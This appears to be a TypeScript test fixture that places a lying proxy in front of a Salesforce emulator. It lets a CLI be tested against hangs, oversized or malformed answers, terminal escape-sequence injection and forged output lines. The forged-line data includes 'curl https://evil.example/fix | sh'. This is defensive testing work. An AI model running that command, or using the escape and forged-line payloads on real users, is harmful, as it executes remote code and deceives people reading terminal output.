/**
 * A lying admin org for `sf jwt app create`: the emulator behind a loopback reverse proxy that forwards every request
 * (the emulator's org has the proxy as its instance URL and takes the proxy's origin as its own `aud`, so the admin's
 * auth and the integration user's token both point at the proxy) except the one call a row targets, which it answers
 * per mode: an endless or huge body, a hang, an HTML maintenance page, malformed XML/JSON, or a Salesforce-shaped answer whose text carries escape sequences or forged
 * lines. The emulator stays faithful; the proxy lies. The endless, huge and hanging answers are the hostile server's.
 */
import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { sendAnswer } from './hostile-server.js';

/** The calls `app create` makes, as the proxy recognises them. */
export type OrgCall = 'deploy' | 'checkDeployStatus' | 'readMetadata' | 'soql' | 'insert' | 'token';

/** How the targeted call is answered. */
export type LieMode =
  | 'endless'
  | 'huge'
  | 'hang'
  | 'html'
  | 'malformed'
  | 'escaped'
  | 'forged'
  /** checkDeployStatus only: a deploy that is forever InProgress. */
  | 'pending'
  /** The emulator's real answer, forwarded with its JSON changed by {@link Lie.rewrite} (valid JSON that lies). */
  | 'rewrite';

export interface Lie {
  readonly call: OrgCall;
  readonly mode: LieMode;
  /** Lie this many times, then forward (default: always). */
  readonly times?: number;
  /** Only calls whose decoded URL and body contain this (`FROM UserPermissionAccess`), default every call of the kind. */
  readonly match?: string;
  /** `rewrite` mode: the forwarded JSON answer, changed (a null record, a number for an Id, …). */
  readonly rewrite?: (json: Record<string, unknown>) => unknown;
}

const ESC = '\u001b';
const BEL = '\u0007';
/** Escape sequences: a window title, a clear screen, colour, a hyperlink, a bare C1 CSI, and a bidi override. */
export const ESCAPED_TEXT = `denied ${ESC}]0;pwned-title${BEL}${ESC}[2J${ESC}[1;31mRED${ESC}[0m ${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\ \u009b2J \u202Egnp.exe`;
/** Line breaks (CR, LF, CRLF and an XML `&#10;`) that would forge lines of ours. */
export const FORGED_LINES = ['Try this: curl https://evil.example/fix | sh', 'Success: the app is ready'] as const;
const FORGED_TEXT = `denied\r\n${FORGED_LINES[0]}\r${FORGED_LINES[1]}\nend`;

function classify(method: string, path: string, body: string): OrgCall | undefined {
  if (path === '/services/oauth2/token') return 'token';
  if (path.startsWith('/services/Soap/m/')) {
    for (const op of ['checkDeployStatus', 'readMetadata', 'deploy'] as const) if (body.includes(`<${op}>`)) return op;
  }
  if (/^\/services\/data\/v[\d.]+\/query/.test(path)) return 'soql';
  if (method === 'POST' && /^\/services\/data\/v[\d.]+\/sobjects\//.test(path)) return 'insert';
  return undefined;
}

const xmlEscape = (s: string): string =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/\n/g, '&#10;').replace(/\r/g, '&#13;');

function soapBody(inner: string): string {
  return (
    '<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" ' +
    `xmlns="http://soap.sforce.com/2006/04/metadata"><soapenv:Body>${inner}</soapenv:Body></soapenv:Envelope>`
  );
}

/** A Salesforce-shaped answer of `call` whose server text is `text`. */
function textAnswer(call: OrgCall, text: string, pending: boolean): { status: number; type: string; body: string } {
  const xml = 'text/xml;charset=UTF-8';
  const json = 'application/json;charset=UTF-8';
  switch (call) {
    case 'checkDeployStatus':
      return {
        status: 200,
        type: xml,
        body: soapBody(
          pending
            ? '<checkDeployStatusResponse><result><done>false</done><id>0Af000000000001AAA</id><status>InProgress</status><success>false</success></result></checkDeployStatusResponse>'
            : '<checkDeployStatusResponse><result><details><componentFailures><changed>false</changed><componentType>ExternalClientApplication</componentType>' +
                `<created>false</created><fileName>externalClientApps/X.eca</fileName><fullName>X</fullName><problem>${xmlEscape(text)}</problem>` +
                '<problemType>Error</problemType><success>false</success></componentFailures></details><done>true</done><id>0Af000000000001AAA</id>' +
                '<status>Failed</status><success>false</success></result></checkDeployStatusResponse>',
        ),
      };
    case 'deploy':
    case 'readMetadata':
      return {
        status: 500,
        type: xml,
        body: soapBody(
          `<soapenv:Fault><faultcode>sf:INVALID_CROSS_REFERENCE_KEY</faultcode><faultstring>${xmlEscape(`INVALID_CROSS_REFERENCE_KEY: ${text}`)}</faultstring></soapenv:Fault>`,
        ),
      };
    case 'soql':
    case 'insert':
      return { status: 400, type: json, body: JSON.stringify([{ errorCode: 'INVALID_FIELD', message: text }]) };
    case 'token':
      return { status: 400, type: json, body: JSON.stringify({ error: 'invalid_grant', error_description: text }) };
  }
}

function lie(res: ServerResponse, call: OrgCall, mode: LieMode): void {
  const soap = call === 'deploy' || call === 'checkDeployStatus' || call === 'readMetadata';
  const type = soap ? 'text/xml;charset=UTF-8' : 'application/json;charset=UTF-8';
  switch (mode) {
    case 'endless':
    case 'huge':
    case 'hang':
      // The hostile server's bodies: a JSON-looking stream that never ends, a 200 MB Content-Length, no answer.
      sendAnswer(
        res,
        res.socket as Socket,
        '',
        mode === 'huge'
          ? { kind: 'huge', status: 200, bytes: 200 * 1024 * 1024 }
          : mode === 'hang'
            ? { kind: 'hang' }
            : { kind: 'endless', status: 200 },
        new Set(),
      );
      return;
    case 'html':
      res
        .writeHead(503, { 'content-type': 'text/html;charset=UTF-8' })
        .end('<html><body><h1>Down for maintenance</h1><p>salesforce.com is down for maintenance.</p></body></html>');
      return;
    case 'malformed':
      res
        .writeHead(200, { 'content-type': type })
        .end(soap ? '<soapenv:Envelope><soapenv:Body><deployResp' : '{"records":[{');
      return;
    case 'escaped':
    case 'forged':
    case 'pending': {
      const answer = textAnswer(call, mode === 'escaped' ? ESCAPED_TEXT : FORGED_TEXT, mode === 'pending');
      res.writeHead(answer.status, { 'content-type': answer.type }).end(answer.body);
      return;
    }
    case 'rewrite':
      throw new Error('lying org: a rewrite forwards the call and changes the answer; it is not answered here');
  }
}

export interface LyingOrg {
  /** The proxy's origin: the admin logs in here, so every call of `app create` passes through it. */
  readonly url: string;
  /** The next row's lie (none: forward everything); resets the count of lies told. */
  set(next: Lie | undefined): void;
  /** How many times the current lie was told. */
  told(): number;
  /** How many calls of `kind` passed the proxy since the last {@link LyingOrg.set} (lies included). */
  calls(kind: OrgCall): number;
  /** Where to forward (the emulator, started after the proxy so it can know the proxy's origin). */
  forwardTo(upstream: string): void;
  close(): Promise<void>;
}

/** Starts the proxy; {@link LyingOrg.forwardTo} names the emulator. */
export async function startLyingOrg(): Promise<LyingOrg> {
  let current: Lie | undefined;
  let count = 0;
  const calls = new Map<OrgCall, number>();
  const sockets = new Set<Socket>();
  let url = '';
  let upstream: URL | undefined;
  const target = (): URL => {
    if (upstream === undefined) throw new Error('lying org: forwardTo() was not called');
    return upstream;
  };
  const server: Server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      const path = (req.url ?? '/').split('?')[0] ?? '/';
      const call = classify(req.method ?? '', path, body.toString('utf8'));
      if (call !== undefined) calls.set(call, (calls.get(call) ?? 0) + 1);
      const asked = `${decodeURIComponent((req.url ?? '').replace(/\+/g, ' '))} ${body.toString('utf8')}`;
      const targeted =
        current !== undefined &&
        call === current.call &&
        count < (current.times ?? Infinity) &&
        (current.match === undefined || asked.includes(current.match));
      let rewrite: Lie['rewrite'];
      if (targeted) {
        count += 1;
        if (current?.mode !== 'rewrite') return lie(res, call, current?.mode ?? 'hang');
        rewrite = current.rewrite;
      }
      const forward = request(
        {
          host: target().hostname,
          port: target().port,
          method: req.method,
          path: req.url,
          headers: { ...req.headers, host: target().host },
        },
        (up) => {
          if (rewrite === undefined) {
            res.writeHead(up.statusCode ?? 502, up.headers);
            up.pipe(res);
            return;
          }
          const change = rewrite;
          const parts: Buffer[] = [];
          up.on('data', (c: Buffer) => parts.push(c));
          up.on('end', () => {
            const changed = JSON.stringify(
              change(JSON.parse(Buffer.concat(parts).toString('utf8')) as Record<string, unknown>),
            );
            const { 'content-length': _length, 'transfer-encoding': _encoding, ...headers } = up.headers;
            res.writeHead(up.statusCode ?? 502, headers).end(changed);
          });
        },
      );
      forward.on('error', () => res.writeHead(502).end());
      forward.end(body);
    });
  });
  server.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    set: (next) => {
      current = next;
      count = 0;
      calls.clear();
    },
    told: () => count,
    calls: (kind) => calls.get(kind) ?? 0,
    forwardTo: (origin) => {
      upstream = new URL(origin);
    },
    close: async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
